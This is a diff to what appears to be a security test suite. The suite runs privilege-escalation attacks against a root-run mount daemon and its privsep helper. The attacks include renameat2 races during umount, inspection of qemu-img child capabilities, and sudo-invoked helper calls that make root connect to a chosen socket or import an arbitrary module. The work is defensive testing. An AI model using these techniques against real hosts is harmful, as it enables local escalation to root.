@@ -24,12 +24,9 @@ from __future__ import annotations
 import hashlib
 import json
 import os
-import socket
-import struct
 import subprocess
 import tempfile
 import textwrap
-import threading
 import time
 from collections.abc import Callable
 from dataclasses import dataclass
@@ -163,9 +160,13 @@ SETUP = """
 play = state + "/play"
 made = attempt(files.make_directory, play, 0o755)
 owned = attempt(files.chown, play, os.getuid(), os.getgid())
-os.chdir(play)  # the mount daemon starts later, and inherits this (through sudo)
-result = {"made": made, "owned": owned, "uid": os.getuid(), "gid": os.getgid(),
-          "daemon": files.daemon_info()}
+result = {"made": made, "owned": owned, "uid": os.getuid(), "gid": os.getgid()}
+"""
+# The mount daemon starts later and inherits this cwd (through sudo), unless it
+# changes it itself.
+ENTER = """
+os.chdir(play)
+result = files.daemon_info()
 """
 
 
@@ -202,13 +203,18 @@ def env(service_venv, service_user):
     service = None
     try:
         service = HostileService(service_user, service_venv, config)
+        # A directory of its own under allowed_paths: the daemon makes and hands
+        # it over. Should a fixed daemon refuse that, root makes it, as an
+        # operator whose shares belong to the service user would.
         setup = service.run(SETUP, state=state)
-        assert setup["made"]["outcome"] == "done", setup
-        assert setup["owned"]["outcome"] == "done", setup
-        yield Env(
-            service, victims, base, state, os.path.join(state, "play"), config, uid, gid,
-            service_venv,
-        )  # fmt: skip
+        play = os.path.join(state, "play")
+        if "refused" in (setup["made"]["outcome"], setup["owned"]["outcome"]):
+            print(f"\n  the daemon would not hand the service a directory: {setup}")
+            os.makedirs(play, exist_ok=True)
+            os.chown(play, uid, gid)
+        assert os.stat(play).st_uid == uid, setup
+        service.run(ENTER)
+        yield Env(service, victims, base, state, play, config, uid, gid, service_venv)
     finally:
         print_table({victims.root: "$VICTIMS", state: "$STATE"})
         if service is not None:
@@ -535,40 +541,16 @@ def create_without_size(env):
 @attack("variants", "backing file = nbd+unix:// URL of a root-only socket (root connects)")
 def backing_unix_socket(env):
     v = env.victims.make("nbd-socket", {}, dir_mode=0o700)
-    path = v.file("root-only.sock")
-    server = socket.socket(socket.AF_UNIX)
-    server.bind(path)
-    os.chmod(path, 0o600)
-    server.listen(4)
-    server.settimeout(0.2)
+    listener = hostile.UnixListener(v.file("root-only.sock"))
     v.before = v.snapshot()
-    peers: list[tuple[int, int, int]] = []
-    stop = threading.Event()
-
-    def accept() -> None:
-        while not stop.is_set():
-            try:
-                conn, _ = server.accept()
-            except TimeoutError:
-                continue
-            except OSError:
-                return
-            creds = conn.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, struct.calcsize("3i"))
-            peers.append(struct.unpack("3i", creds))
-            conn.close()
-
-    thread = threading.Thread(target=accept, daemon=True)
-    thread.start()
     try:
         build = 'top = overlay(f"{play}/nbd-unix.qcow2", url)'
-        answer = convert_and_read(env, build, url=f"nbd+unix:///x?socket={path}")
+        answer = convert_and_read(env, build, url=f"nbd+unix:///x?socket={listener.path}")
     finally:
-        stop.set()
-        thread.join(5)
-        server.close()
+        listener.close()
     proof = [
-        f"pid {pid} (uid {uid}) connected to the root-only socket {path} for the service"
-        for pid, uid, _gid in peers[:2]
+        f"pid {pid} (uid {uid}) connected to the root-only socket {listener.path} for the service"
+        for pid, uid, _gid in listener.peers[:2]
     ]
     return judge(env, v, answer, proof)
 
@@ -834,6 +816,7 @@ for n, content in (("target", b"mine"), ("text", b"mine"), ("a", b"mine"), ("b",
 os.mkdir(f"{d}/mnt")
 dir_fd = os.open(d, os.O_RDONLY | os.O_DIRECTORY)
 leaks, mounted = [], []
+exec(before_code)
 
 def fn():
     return eval(call)
@@ -889,6 +872,7 @@ def _race_attack(label: str, call: str, after: str) -> Callable[[Env], tuple[str
             label=label,
             call=call,
             after_code=after or "pass",
+            before_code="pass",
             victim_dir=v.path,
             seconds=RACE_SECONDS,
         )
@@ -914,6 +898,45 @@ for _label, (_call, _after) in RACES.items():
     attack("race", f"renameat2 exchange of the parent directory during {_label}")(
         _race_attack(_label, _call, _after)
     )
+
+
+@attack("race", "renameat2 exchange of the parent directory during umount")
+def race_umount(env):
+    """The service's own tmpfs at d/mnt; root's at <victim>/mnt holds a marker file."""
+    v = env.victims.make("race-umount", RACE_FILES, subdirs=("mnt",), dir_mode=0o700)
+    point = v.file("mnt")
+    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=1m", "tmpfs", point], check=True)
+    try:
+        with open(os.path.join(point, "marker"), "w") as f:
+            f.write("root's own mount\n")
+        v.before = v.snapshot()
+        env.victims.events()
+        answer = env.svc(
+            RACE,
+            timeout=RACE_SECONDS + 120,
+            label="umount",
+            call="mount.umount(d + '/mnt')",
+            before_code="mount.mount('tmpfs', 'tmpfs', d + '/mnt', ['size=1m'])",
+            after_code="if r.get('value'):\n"
+            "    attempt(mount.mount, 'tmpfs', 'tmpfs', d + '/mnt', ['size=1m'])",
+            victim_dir=v.path,
+            seconds=RACE_SECONDS,
+        )
+        proof = []
+        if not os.path.exists(os.path.join(point, "marker")):
+            proof.append(f"root's tmpfs at {point} is gone (unmounted, or covered by another)")
+        extra = [m for m in hostile.mounts_under(v.path) if m != point]
+        if len(hostile.mounts_under(v.path)) != 1 or extra:
+            proof.append(f"mounts on the victim now: {hostile.mounts_under(v.path)}")
+    finally:
+        hostile.release_mounts(v.path)
+    hostile.release_mounts(os.path.join(env.play, "race-umount"))
+    stats = answer["race"]
+    tally = f"[{stats['calls']} calls, {stats['swaps']} swaps, {stats['outcomes']}]"
+    verdict, evidence = judge(env, v, answer, proof)
+    if verdict == "refused":
+        evidence = json.dumps(stats["errors"])[:300]
+    return verdict, f"{tally} {evidence}"
 
 
 # -- 5. mount options and shares ------------------------------------------------------
@@ -1096,6 +1119,22 @@ def _caps(mask: str) -> str:
     return f"{mask} ({', '.join(names) if len(names) <= 6 else f'{len(names)} caps'})"
 
 
+def _sample_children(daemon_pid: int, seconds: float, stop_when_seen: bool) -> dict[int, dict]:
+    """Status of every descendant of the daemon seen within ``seconds`` (sampled every ms)."""
+    seen: dict[int, dict] = {}
+    end = time.monotonic() + seconds
+    while time.monotonic() < end:
+        for pid in hostile.descendants(daemon_pid):
+            st = hostile.proc_status(pid)
+            # A child between fork and exec still has the daemon's name: wait for its exec.
+            if st and st.get("Name") not in ("python", "python3", "remotefs-aa-pri"):
+                seen.setdefault(pid, st)
+        if stop_when_seen and any(st.get("Name") == "qemu-img" for st in seen.values()):
+            break
+        time.sleep(0.001)
+    return seen
+
+
 @attack("caps", "capabilities of a qemu-img child of the file daemon")
 def child_capabilities(env):
     v = env.victims.make("caps", {"secret": 16})
@@ -1113,26 +1152,37 @@ def child_capabilities(env):
     )
     daemon_pid = daemons["file"]["pid"]
     try:
-
-        def children() -> list[int]:
-            return [p for p in hostile.descendants(daemon_pid) if hostile.proc_status(p)]
-
-        kids = hostile.wait_for(
-            lambda: [p for p in children() if hostile.proc_status(p).get("Name") == "qemu-img"],
-            timeout=20,
-        )
-        statuses = {p: hostile.proc_status(p) for p in children()}
+        statuses = _sample_children(daemon_pid, 10, stop_when_seen=True)
     finally:
-        env.svc(
+        how = env.svc(
             """
-            os.close(os.open(f"{play}/caps.fifo", os.O_WRONLY))
+            # O_RDWR never blocks on a FIFO: it releases a blocked reader, if any,
+            # and, held open, any later open of it too.
+            writer = os.open(f"{play}/caps.fifo", os.O_RDWR)
             caps_thread.join(60)
+            os.close(writer)
             result = G.get("caps_result")
             """
         )
-    own = {
-        name: hostile.proc_status(info["pid"]) for name, info in daemons.items()
-    }  # the daemons themselves
+    if not statuses:
+        # No child blocked on the FIFO (the daemon may open sources itself now):
+        # sample the children of ordinary qemu-img calls instead.
+        env.svc(
+            """
+            legit = f"{play}/caps-legit.qcow2"
+            qemu.qemu_img_create(legit, "qcow2", MiB)
+            def _loop():
+                end = time.monotonic() + 5
+                while time.monotonic() < end:
+                    attempt(qemu.qemu_img_info, legit, "qcow2")
+                    attempt(qemu.qemu_img_check, legit, "qcow2")
+            caps_thread = threading.Thread(target=_loop, daemon=True)
+            caps_thread.start()
+            """
+        )
+        statuses = _sample_children(daemon_pid, 5, stop_when_seen=False)
+        env.svc("caps_thread.join(60)")
+    own = {name: hostile.proc_status(info["pid"]) for name, info in daemons.items()}
     allowed = int(own["file"]["CapEff"], 16)
     lines, proof = [], []
     for name, st in own.items():
@@ -1140,14 +1190,12 @@ def child_capabilities(env):
             f"{name} daemon pid {daemons[name]['pid']}: CapEff {_caps(st['CapEff'])} "
             f"CapBnd {_caps(st['CapBnd'])} NoNewPrivs {st.get('NoNewPrivs')}"
         )
-    if not kids:
-        proof.append("no qemu-img child appeared to inspect")
-    for pid, st in statuses.items():
-        wide = {
-            key: st[key]
-            for key in ("CapEff", "CapPrm", "CapInh", "CapBnd", "CapAmb")
-            if int(st[key], 16) & ~allowed
-        }
+    for pid, st in sorted(statuses.items())[:6]:
+        wide = [
+            k
+            for k in ("CapEff", "CapPrm", "CapInh", "CapBnd", "CapAmb")
+            if int(st[k], 16) & ~allowed
+        ]
         desc = (
             f"child {st['Name']} pid {pid} uid {st['Uid'].split()[0]}: "
             + ", ".join(f"{k} {_caps(st[k])}" for k in ("CapEff", "CapPrm", "CapBnd", "CapAmb"))
@@ -1155,9 +1203,11 @@ def child_capabilities(env):
         )
         lines.append(desc)
         if wide:
-            proof.append(f"{desc} (beyond the daemon's {own['file']['CapEff']})")
-    verdict, evidence = judge(env, v, daemons, proof)
+            proof.append(f"{desc} ({'/'.join(wide)} beyond the daemon's {own['file']['CapEff']})")
     print("\n    " + "\n    ".join(lines))
+    if not statuses:
+        return "inconclusive", "no child of the file daemon could be seen; " + "; ".join(lines)
+    verdict, evidence = judge(env, v, how, proof)
     return verdict, evidence if verdict == "escaped" else "; ".join(lines)
 
 
@@ -1267,6 +1317,50 @@ def planted_config(env):
     child = answer.get("child") or {}
     if child.get("rc") == 0 and "root only: planted" in child.get("out", ""):
         proof.append("a daemon started on the planted config read the victim for the service")
+    return judge(env, v, answer, proof)
+
+
+@attack("helper", "--privsep_sock_path names a root-only socket: the helper connects as root")
+def helper_socket(env):
+    v = env.victims.make("helper-socket", {}, dir_mode=0o700)
+    listener = hostile.UnixListener(v.file("root-only.sock"))
+    v.before = v.snapshot()
+    try:
+        answer = env.svc(
+            """
+            helper = os.path.join(os.path.dirname(sys.executable), "remotefs-aa-privsep-helper")
+            r = sh("sudo", "-n", helper, "--privsep_context", "remotefs_aa.privsep.file_pctxt",
+                   "--privsep_sock_path", sock, check=False)
+            result = {"outcome": "done" if r["rc"] == 0 else "failed",
+                      "error": r["err"].strip()[-300:]}
+            """,
+            sock=listener.path,
+        )
+        hostile.wait_for(lambda: listener.peers, timeout=5)
+    finally:
+        listener.close()
+    proof = [
+        f"pid {pid} (uid {uid}) connected to the root-only socket {listener.path} for the service"
+        for pid, uid, _gid in listener.peers[:2]
+    ]
+    return judge(env, v, answer, proof)
+
+
+@attack("helper", "--privsep_context names any importable module: root imports it")
+def helper_import(env):
+    v = env.victims.make("helper-import", {})
+    answer = env.svc(
+        """
+        helper = os.path.join(os.path.dirname(sys.executable), "remotefs-aa-privsep-helper")
+        r = sh("sudo", "-n", helper, "--privsep_context", "this.s", "--privsep_sock_path",
+               "/nonexistent", check=False)
+        result = {"outcome": "done" if r["rc"] == 0 else "failed", "out": r["out"][:200],
+                  "error": r["err"].strip()[-300:]}
+        """
+    )
+    proof = []
+    if "Beautiful is better than ugly" in answer["out"]:
+        proof.append("root imported (ran) the module the service named: this printed its Zen")
     return judge(env, v, answer, proof)
 
 
